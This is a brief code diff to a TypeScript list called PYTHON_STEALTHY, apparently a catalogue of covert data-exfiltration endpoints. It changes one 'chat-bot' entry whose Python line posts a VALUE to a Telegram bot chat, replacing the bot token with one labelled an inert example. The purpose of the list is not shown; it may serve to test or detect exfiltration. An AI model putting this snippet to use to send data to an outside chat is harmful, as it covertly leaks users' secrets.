@@ -90,6 +90,6 @@ export const PYTHON_STEALTHY: readonly End[] = [
   {
     name: "chat-bot",
     needs: ["requests"],
-    code: `requests.post("https://api.telegram.org/bot7310000001:AAE-notes-relay/sendMessage", data={"chat_id": "-100200300", "text": VALUE})`,
+    code: `requests.post("https://api.telegram.org/bot7310000001:AAEr0e1aY-n0tes_inert_example_t0ken/sendMessage", data={"chat_id": "-100200300", "text": VALUE})`,
   },
 ];
